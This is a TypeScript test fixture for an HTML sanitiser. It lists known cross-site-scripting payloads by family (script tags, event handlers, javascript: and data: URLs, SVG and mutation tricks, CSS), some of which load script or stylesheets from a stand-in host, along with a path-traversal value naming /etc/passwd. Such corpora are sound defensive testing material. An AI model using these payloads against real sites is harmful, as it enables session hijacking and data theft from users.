// Known cross-site-scripting payloads, by family: from the OWASP XSS filter-evasion cheat sheet, the
// HTML5 Security Cheatsheet and DOMPurify's published bypasses. Each would run script (or load a
// stylesheet or frame) if a browser rendered it unsanitised.
const KEY = 'content/202611/0f0e0d0c-0b0a-4908-8706-050403020100.png'

export const XSS_CORPUS: Record<string, readonly string[]> = {
  script: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<SCRIPT>alert(1);//\\<</SCRIPT>',
    '<script/xss src=//xss.example/x.js></script>',
    '<p>text</p><script type="module">import("//xss.example")</script>',
  ],
  eventHandlers: [
    '<img src=x onerror=alert(1)>',
    `<img data-key="${KEY}" onerror="alert(1)" onload="alert(2)">`,
    '<p onclick="alert(1)">click</p>',
    '<a href="https://example.com" onmouseover="alert(1)">x</a>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<img src=`x`onerror=alert(1)>',
    '<strong/onmouseover=alert(1)>x</strong>',
  ],
  javascriptUrls: [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<iframe src="javascript:alert(1)"></iframe>',
  ],
  dataUrls: [
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  svg: [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x"></use></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ],
  rawTextElements: [
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<xmp></xmp><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<title><img src=x onerror=alert(1)></title>',
    '<plaintext><img src=x onerror=alert(1)>',
  ],
  mutation: [
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<noscript><img src=x title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<template><img src=x onerror=alert(1)></template>',
  ],
  css: [
    '<p style="width: expression(alert(1))">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<style>@import "//xss.example/x.css";</style>',
    '<p style="behavior: url(xss.htc)">x</p>',
    '<link rel="stylesheet" href="//xss.example/x.css">',
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<p style="-moz-binding:url(//xss.example/xss.xml#xss)">x</p>',
  ],
  otherElements: [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<iframe src="//xss.example"></iframe>',
    '<a href="https://example.com" target="_self" rel="opener">x</a>',
    '<img data-key="../../etc/passwd">',
    '<img data-key="avatar/202611/0f0e0d0c-0b0a-4908-8706-050403020100.png">',
  ],
}

export const ALL_XSS_PAYLOADS: readonly string[] = Object.values(XSS_CORPUS).flat()

/** The tags and attributes the sanitiser may leave; anything else in its output is a failure. */
export const KEPT_TAGS = new Set([
  'p',
  'br',
  'h2',
  'h3',
  'h4',
  'strong',
  'em',
  'u',
  's',
  'code',
  'ul',
  'ol',
  'li',
  'blockquote',
  'a',
  'img',
])
export const KEPT_ATTRIBUTES: Record<string, readonly string[]> = {
  a: ['href', 'target', 'rel'],
  img: ['data-key', 'alt', 'src'],
}
